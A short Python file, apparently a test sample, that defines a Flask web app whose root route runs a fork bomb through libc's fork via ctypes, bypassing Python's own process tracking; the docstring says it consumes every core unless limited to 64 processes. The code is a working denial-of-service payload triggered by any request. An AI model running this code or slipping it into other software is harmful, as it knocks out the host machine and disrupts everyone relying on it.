"""A fork bomb that Python is not told of: libc's own fork.

alone: it takes every core
told: 64 processes
"""

import ctypes

from flask import Flask

app = Flask(__name__)


@app.get("/")
def index():
    while True:
        ctypes.CDLL(None).fork()
